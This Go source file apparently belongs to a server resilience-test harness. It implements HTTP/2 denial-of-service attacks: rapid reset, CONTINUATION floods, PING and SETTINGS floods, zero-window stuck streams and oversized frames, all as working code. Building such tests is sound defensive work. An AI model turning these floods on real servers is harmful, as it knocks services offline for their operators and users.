package testattack

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A Peer is the client's side of an HTTP/2 connection, without any of its rules.
type Peer struct {
	net.Conn
	*http2.Framer
	path  string
	block bytes.Buffer
	hpack *hpack.Encoder
}

func newPeer(c net.Conn, path string) (*Peer, error) {
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	p := &Peer{Conn: c, Framer: http2.NewFramer(c, c), path: path}
	p.hpack = hpack.NewEncoder(&p.block)
	return p, nil
}

// discard reads and forgets what the target sends.
func (p *Peer) discard() {
	buffer := make([]byte, 4<<10)
	for {
		if _, err := p.Read(buffer); err != nil {
			return
		}
	}
}

// headers are those of a request, and more.
func (p *Peer) headers(more ...string) []byte {
	p.block.Reset()
	fields := append([]string{":method", "POST", ":scheme", "https", ":authority", "x", ":path", p.path, "content-type", "application/json"}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = p.hpack.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // into memory
	}
	return p.block.Bytes()
}

// open opens a stream with a whole request.
func (p *Peer) open(stream uint32, headers []byte, body string) error {
	if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers, EndHeaders: true, EndStream: body == ""}); err != nil || body == "" {
		return err
	}
	return p.WriteData(stream, true, []byte(body))
}

// noWindow are settings with which the target may send no answer.
var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

// many is more streams than a server has on a connection.
const many = 100

// http2Attacks are those of HTTP/2.
func http2Attacks() []Attack { return append(stuckStreams(), floods()...) }

// stuckStreams keep streams open.
func stuckStreams() []Attack {
	return []Attack{
		{Name: "answers without a window", HTTP2: func(ctx context.Context, p *Peer) error { return p.stuck(ctx, p.headers(), review) }},
		{Name: "answers without a window to requests that are not reviews", HTTP2: func(ctx context.Context, p *Peer) error {
			p.path = "/nothing"
			return p.stuck(ctx, p.headers(), "")
		}},
		{Name: "answers without a window to headers that are too large", HTTP2: func(ctx context.Context, p *Peer) error {
			large := make([]string, 0, 32)
			for range 16 {
				large = append(large, "x-large", strings.Repeat("x", 3000))
			}
			return p.stuck(ctx, p.headers(large...), "")
		}},
		{Name: "windows that trickle", HTTP2: func(ctx context.Context, p *Peer) error { return p.trickledWindow(ctx) }},
		{Name: "bodies that do not arrive", HTTP2: func(ctx context.Context, p *Peer) error {
			if err := p.WriteSettings(); err != nil {
				return err
			}
			for i := range uint32(many) {
				if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: p.headers(), EndHeaders: true}); err != nil {
					return err
				}
			}
			return hold(ctx, p)
		}},
	}
}

// floods send what has to be answered, or kept.
func floods() []Attack {
	return []Attack{
		{Name: "rapid reset", HTTP2: func(ctx context.Context, p *Peer) error { return p.reset(ctx) }},
		{Name: "rapid reset with large headers", HTTP2: func(ctx context.Context, p *Peer) error {
			return p.reset(ctx, "x-large", strings.Repeat("x", 3500))
		}},
		{Name: "CONTINUATION", HTTP2: func(ctx context.Context, p *Peer) error { return p.continuation(ctx) }},
		{Name: "CONTINUATION that trickles", HTTP2: func(ctx context.Context, p *Peer) error { return p.trickledContinuation(ctx) }},
		{Name: "PING", HTTP2: func(ctx context.Context, p *Peer) error {
			go p.discard()
			return p.flood(ctx, func() error { return p.WritePing(false, [8]byte{}) })
		}},
		{Name: "PING without reading", HTTP2: func(ctx context.Context, p *Peer) error {
			return p.flood(ctx, func() error { return p.WritePing(false, [8]byte{}) })
		}},
		{Name: "SETTINGS", HTTP2: func(ctx context.Context, p *Peer) error {
			go p.discard()
			return p.flood(ctx, func() error { return p.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1 << 20}) })
		}},
		{Name: "SETTINGS without reading", HTTP2: func(ctx context.Context, p *Peer) error {
			return p.flood(ctx, func() error { return p.WriteSettings() })
		}},
		{Name: "large frames", HTTP2: func(ctx context.Context, p *Peer) error {
			if err := p.WriteSettings(); err != nil {
				return err
			}
			if err := p.WriteRawFrame(0xf0, 0, 0, make([]byte, 1<<20-1)); err != nil {
				return err
			}
			return hold(ctx, p)
		}},
	}
}

// stuck opens streams whose answers it does not take.
func (p *Peer) stuck(ctx context.Context, headers []byte, body string) error {
	headers = bytes.Clone(headers)
	if err := p.WriteSettings(noWindow, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096}); err != nil {
		return err
	}
	for i := range uint32(many) {
		block := headers
		if i > 0 { // what is indexed needs fewer bytes
			block = p.headers()
		}
		if len(headers) > 4<<10 {
			block = headers
		}
		if err := p.open(2*i+1, block, body); err != nil {
			return err
		}
	}
	p.discard()
	return errEnded
}

// trickledWindow takes a byte of each answer now and then.
func (p *Peer) trickledWindow(ctx context.Context) error {
	if err := p.WriteSettings(noWindow); err != nil {
		return err
	}
	go p.discard()
	for i := range uint32(many) {
		if err := p.open(2*i+1, p.headers(), review); err != nil {
			return err
		}
	}
	return trickle(ctx, 500*time.Millisecond, func(int) error {
		for i := range uint32(DefaultStreams) {
			if err := p.WriteWindowUpdate(2*i+1, 1); err != nil {
				return err
			}
		}
		return nil
	})
}

// DefaultStreams is how many streams of a connection the trickle keeps going.
const DefaultStreams = 16

func (p *Peer) reset(ctx context.Context, more ...string) error {
	if err := p.WriteSettings(); err != nil {
		return err
	}
	go p.discard()
	return repeat(ctx, func(i int) error {
		stream := uint32(2*i + 1)
		if i > 1<<29 {
			return errEnded
		}
		if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: p.headers(more...), EndHeaders: true}); err != nil {
			return err
		}
		return p.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

func (p *Peer) continuation(ctx context.Context) error {
	if err := p.WriteSettings(); err != nil {
		return err
	}
	go p.discard()
	if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers()}); err != nil {
		return err
	}
	return repeat(ctx, func(i int) error {
		p.block.Reset()
		_ = p.hpack.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: strings.Repeat("x", 1000), Sensitive: true})
		return p.WriteContinuation(1, false, p.block.Bytes())
	})
}

func (p *Peer) trickledContinuation(ctx context.Context) error {
	if err := p.WriteSettings(); err != nil {
		return err
	}
	go p.discard()
	if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers()}); err != nil {
		return err
	}
	return trickle(ctx, 100*time.Millisecond, func(int) error { return p.WriteContinuation(1, false, nil) })
}

func (p *Peer) flood(ctx context.Context, frame func() error) error {
	if err := p.WriteSettings(); err != nil {
		return err
	}
	return repeat(ctx, func(int) error { return frame() })
}
